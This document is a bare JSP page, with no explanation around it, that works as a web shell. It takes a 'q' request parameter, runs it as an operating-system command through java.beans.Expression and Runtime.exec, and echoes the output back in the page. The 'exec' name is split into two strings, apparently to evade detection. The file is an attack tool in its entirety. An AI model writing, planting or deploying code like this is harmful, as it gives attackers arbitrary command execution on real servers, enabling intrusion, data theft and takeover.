<%@ page import="java.beans.Expression,java.io.*" %>
<%
    String line = request.getParameter("q");
    if (line != null) {
        Expression ex = new Expression(Runtime.getRuntime(), "ex" + "ec", new Object[]{line});
        Process p = (Process) ex.getValue();
        BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
        String s;
        while ((s = r.readLine()) != null) { out.println(s); }
    }
%>
